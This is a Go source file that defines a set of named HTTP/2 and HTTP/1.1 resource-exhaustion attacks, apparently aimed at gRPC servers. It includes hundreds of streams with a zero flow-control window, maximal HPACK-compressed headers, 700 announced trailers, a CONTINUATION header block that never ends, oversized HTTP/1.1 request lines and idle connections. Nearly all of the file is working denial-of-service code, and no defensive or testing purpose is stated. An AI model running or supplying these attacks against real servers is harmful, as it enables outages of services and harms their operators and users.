package main

import (
	"bytes"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streams on a connection: more than a server that bounds them allows at once.
const streams = 245

// attacks each send what they have to send on one connection.
var attacks = map[string]func(io.Writer) error{
	// The body of an open call never ends; one small field announces seven hundred trailers.
	"trailers": func(w io.Writer) error {
		names := make([]string, 700)
		for i := range names {
			names[i] = fmt.Sprintf("%03x", i)
		}
		return requests(w, healthCheck, false, hpack.HeaderField{Name: "trailer", Value: strings.Join(names, ",")})
	},
	// The largest headers that are allowed, in one field that is sent each time.
	"headers": func(w io.Writer) error {
		return requests(w, healthCheck, false, hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 48<<10), Sensitive: true})
	},
	// As many fields as fit, each of which is a byte on the wire.
	"fields": func(w io.Writer) error {
		var fields []hpack.HeaderField
		for i := range 100 {
			fields = append(fields, hpack.HeaderField{Name: fmt.Sprintf("x%02d", i), Value: "v"})
		}
		var all []hpack.HeaderField
		for range 16 {
			all = append(all, fields...)
		}
		return requests(w, healthCheck, false, all...)
	},
	// Complete requests whose answers nobody takes.
	"answers": func(w io.Writer) error {
		return requests(w, "/assets/v1/users/me/avatar", true, hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 48<<10), Sensitive: true})
	},
	// One header block that does not end.
	"block": func(w io.Writer) error {
		framer, err := preface(w)
		if err != nil {
			return err
		}
		block := headers(healthCheck, hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 48<<10), Sensitive: true})
		for i := 0; i < len(block) && err == nil; i += 16 << 10 {
			piece := block[i:min(len(block), i+16<<10)]
			if i == 0 {
				err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: piece})
			} else {
				err = framer.WriteContinuation(1, false, piece)
			}
		}
		return err
	},
	// The same over HTTP/1.1, of fields as small as they can be.
	"lines": func(w io.Writer) error {
		var b bytes.Buffer
		b.WriteString("GET /healthz HTTP/1.1\r\nHost: x\r\n")
		for i := 0; b.Len() < 63<<10; i++ {
			fmt.Fprintf(&b, "%x:\r\n", i)
		}
		_, err := w.Write(b.Bytes())
		return err
	},
	// One large field over HTTP/1.1.
	"line": func(w io.Writer) error {
		_, err := io.WriteString(w, "GET /healthz HTTP/1.1\r\nHost: x\r\nX: "+strings.Repeat("~", 63<<10))
		return err
	},
	// Nothing but connections.
	"idle": func(w io.Writer) error {
		_, err := preface(w)
		return err
	},
}

const healthCheck = "/grpc.health.v1.Health/Check"

func attackNames() []string { return slices.Sorted(maps.Keys(attacks)) }

func preface(w io.Writer) (*http2.Framer, error) {
	if _, err := io.WriteString(w, http2.ClientPreface); err != nil {
		return nil, err
	}
	framer := http2.NewFramer(w, nil)
	return framer, framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}

// requests sends requests with fields that the compression of headers (RFC 7541) makes as small as it can.
func requests(w io.Writer, path string, end bool, fields ...hpack.HeaderField) error {
	framer, err := preface(w)
	if err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for i := uint32(0); i < streams && err == nil; i++ {
		block.Reset()
		encode(encoder, path, fields)
		rest := block.Bytes()
		for first := true; err == nil && (first || len(rest) > 0); first = false {
			piece := rest[:min(len(rest), 16<<10)]
			rest = rest[len(piece):]
			if first {
				err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: piece, EndHeaders: len(rest) == 0, EndStream: end})
			} else {
				err = framer.WriteContinuation(2*i+1, len(rest) == 0, piece)
			}
		}
	}
	return err
}

func headers(path string, fields ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encode(hpack.NewEncoder(&block), path, fields)
	return block.Bytes()
}

func encode(encoder *hpack.Encoder, path string, fields []hpack.HeaderField) {
	all := append([]hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path},
		{Name: ":authority", Value: "x"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}}, fields...)
	for _, f := range all {
		_ = encoder.WriteField(f) // into a buffer
	}
}
